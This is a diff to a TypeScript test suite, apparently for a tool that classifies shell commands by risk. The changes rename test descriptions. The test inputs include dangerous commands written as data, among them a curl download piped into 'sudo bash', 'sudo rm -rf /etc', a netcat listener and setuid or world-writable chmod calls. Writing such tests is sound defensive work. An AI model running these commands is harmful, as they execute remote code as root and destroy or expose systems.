@@ -54,7 +54,7 @@ function candidatesOf(command: string): readonly Candidate[] {
 }
 
 describe('candidatePattern', () => {
-  it('is within the dialect, whatever it was mined from', () => {
+  it('is within the dialect for any command', () => {
     fc.assert(
       fc.property(fc.array(WORDS, { minLength: 1, maxLength: 7 }), (words) => {
         const command = words.join(' ');
@@ -67,7 +67,7 @@ describe('candidatePattern', () => {
     );
   });
 
-  it('needs the words that the index looks up', () => {
+  it('requires the words that the index looks up', () => {
     for (const { command } of madeUpHistory(40, 3)) {
       const texts = commandViews(command).views.map((view) => view.text);
       for (const candidate of candidatesOf(command)) {
@@ -107,7 +107,7 @@ describe('wordClass', () => {
     ['README.md', undefined],
     ['src/app.ts', undefined],
   ] as const) {
-    it(`calls ${word} ${name ?? 'an ordinary word'}`, () => {
+    it(`classifies ${word} as ${name ?? 'an ordinary word'}`, () => {
       assert.equal(wordClass(word), name);
     });
   }
@@ -120,7 +120,7 @@ describe('lineFacts', () => {
       .flatMap(({ literals }) => literals.filter(({ kind }) => kind === 'class'))
       .map(({ text }) => text);
 
-  it('reads rights only where rights are set', () => {
+  it('recognizes file modes only for programs that set them', () => {
     assert.deepEqual(classes('chmod 4755 app'), ['SETID']);
     assert.deepEqual(classes('sudo chmod 777 app'), ['WORLDWRITABLE']);
     assert.deepEqual(classes('nc -l 4444'), []);
@@ -131,23 +131,23 @@ describe('lineFacts', () => {
 describe('featureNames', () => {
   const names = (command: string): readonly string[] => featureNames(command);
 
-  it('sees through wrappers and flag spelling', () => {
+  it('ignores wrappers and the spelling of flags', () => {
     assert.deepEqual(names('nohup /usr/bin/rm -fr build'), names('rm -r -f build'));
   });
 
-  it('ignores what is only said', () => {
+  it('ignores quoted data', () => {
     assert.ok(!names('git commit -m "rm -rf /"').some((name) => /\brm\b/.test(name)));
     assert.ok(!names('echo "git push --force"').some((name) => name.includes('push')));
   });
 
-  it('sees pipes into shells, path classes and sudo', () => {
+  it('detects pipes into shells, path classes and sudo', () => {
     const seen = names('curl -s https://a.b/c | sudo bash; sudo rm -rf /etc');
     for (const name of ['curl: pipe SHELL', 'rm: class SYSTEM', 'sudo rm', 'rm: flag -r']) {
       assert.ok(seen.includes(name), name);
     }
   });
 
-  it('stays bounded on a hostile command', () => {
+  it('is bounded on a hostile command', () => {
     assert.ok(names('a'.repeat(1_000_000)).length < 20);
     assert.ok(
       names(Array.from({ length: 4000 }, (_, at) => `w${at} -f${at};`).join(' ')).length < 1000,
